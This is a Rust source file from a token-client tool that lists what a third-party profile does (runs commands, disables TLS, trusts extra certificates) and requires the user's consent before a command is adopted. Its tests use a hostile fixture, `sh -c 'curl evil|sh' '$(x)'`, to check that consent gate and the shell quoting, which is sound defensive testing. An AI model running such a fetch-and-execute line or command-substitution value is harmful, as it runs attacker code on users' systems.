//! What a profile does beyond asking for a token, when somebody else wrote it: it runs programs, does without TLS, or
//! believes other certificates. Said before such a profile is taken over or trusted, in full, so that it can be judged.
//!
//! Enforces: a command comes into the user's own file only by their word ([`allow`]).

use std::io::IsTerminal as _;

use super::asker::{Asker, Terminal};
use crate::exit::Failure;
use crate::quote::shell_word;
use crate::settings::field::Field;
use crate::settings::file::Profile;
use crate::settings::secret::SecretReference;
use crate::settings::value::Value;

/// How the user says that a command may run.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Word {
    /// It was typed as a flag.
    Given,
    /// It can be asked for.
    Asked,
    /// There is nobody to ask.
    Missing,
}

impl Word {
    /// By asking, where a person can answer.
    pub(super) fn of_terminal() -> Self {
        match std::io::stdin().is_terminal() && std::io::stderr().is_terminal() {
            true => Self::Asked,
            false => Self::Missing,
        }
    }
}

/// The programs that a profile runs, each with its arguments.
pub(super) fn commands(profile: &Profile) -> Vec<(Field, &[String])> {
    let values = profile.iter().map(|(field, sourced)| (*field, &sourced.value));
    values
        .filter_map(|(field, value)| match value {
            Value::Secret(SecretReference::Command(argv)) => Some((field, argv.as_slice())),
            _ => None,
        })
        .collect()
}

/// A sentence for each thing that a profile does beyond asking for a token.
pub(super) fn sentences(name: &str, profile: &Profile) -> Vec<String> {
    let mut said = Vec::new();
    for (field, argv) in commands(profile) {
        let words: Vec<String> = argv.iter().map(|word| shell_word(word)).collect();
        said.push(format!("profile {name} runs for {field}: {}", words.join(" ")));
    }
    for (field, sourced) in profile {
        match (field, &sourced.value) {
            (Field::AllowHttp, Value::Switch(true)) => {
                said.push(format!("profile {name} has {field}: a secret may travel without TLS"));
            }
            (Field::CaFile, Value::Text(path)) => {
                said.push(format!("profile {name} has {field}: it believes the certificates in {path}"));
            }
            _ => {}
        }
    }
    said
}

/// Takes commands over, if the user says so.
///
/// # Errors
/// Exit 2: they do not, or there is nobody to ask.
pub(super) fn allow(theirs: &Profile, word: Word) -> Result<(), Failure> {
    allow_by(&mut Terminal, theirs, word)
}

fn allow_by(asker: &mut dyn Asker, theirs: &Profile, word: Word) -> Result<(), Failure> {
    if commands(theirs).is_empty() || word == Word::Given {
        return Ok(());
    }
    if word == Word::Asked && asker.ask("may it run from now on? type yes")? == "yes" {
        return Ok(());
    }
    Err(Failure::usage("the file names a command, which would run for every token from now on").hint(
        "if it is right, add --allow-command; or name another place for the secret, such as --secret-env VAR",
    ))
}

#[cfg(test)]
mod tests {
    use m2m_proto::secret::SecretString;

    use super::*;
    use crate::settings::value::{Origin, Sourced};

    struct Says(&'static str);

    impl Asker for Says {
        fn say(&mut self, _: &str) {}

        fn ask(&mut self, _: &str) -> Result<String, Failure> {
            Ok(self.0.to_owned())
        }

        fn ask_secret(&mut self, _: &str) -> Result<SecretString, Failure> {
            unreachable!()
        }
    }

    fn profile(values: &[(Field, Value)]) -> Profile {
        let sourced = |value: &Value| Sourced { value: value.clone(), origin: Origin::Default };
        values.iter().map(|(field, value)| (*field, sourced(value))).collect()
    }

    fn command() -> Value {
        let argv = ["sh", "-c", "curl evil|sh", "$(x)"];
        Value::Secret(SecretReference::Command(argv.map(str::to_owned).to_vec()))
    }

    #[test]
    fn a_command_is_taken_over_by_the_users_word_only() {
        let check = |word, answer, expect| {
            let with = profile(&[(Field::PrivateKey, command())]);
            assert_eq!(allow_by(&mut Says(answer), &with, word).is_ok(), expect, "{word:?} {answer}");
        };
        check(Word::Given, "", true);
        check(Word::Asked, "yes", true);
        check(Word::Asked, "", false);
        check(Word::Asked, "y", false);
        check(Word::Missing, "yes", false);
        let without = profile(&[(Field::ClientSecret, Value::Secret(SecretReference::Env("A".into())))]);
        assert!(allow_by(&mut Says(""), &without, Word::Missing).is_ok());
    }

    #[test]
    fn all_that_a_profile_does_is_said_in_full() {
        let said = sentences(
            "a",
            &profile(&[
                (Field::ClientSecret, command()),
                (Field::AllowHttp, Value::Switch(true)),
                (Field::CaFile, Value::Text("/ca.pem".into())),
                (Field::Audience, Value::Text("x".into())),
            ]),
        );
        let expect = [
            "profile a runs for client_secret: sh -c 'curl evil|sh' '$(x)'",
            "profile a has ca_file: it believes the certificates in /ca.pem",
            "profile a has allow_http: a secret may travel without TLS",
        ];
        assert_eq!(said, expect);
        assert!(sentences("a", &profile(&[(Field::AllowHttp, Value::Switch(false))])).is_empty());
    }
}
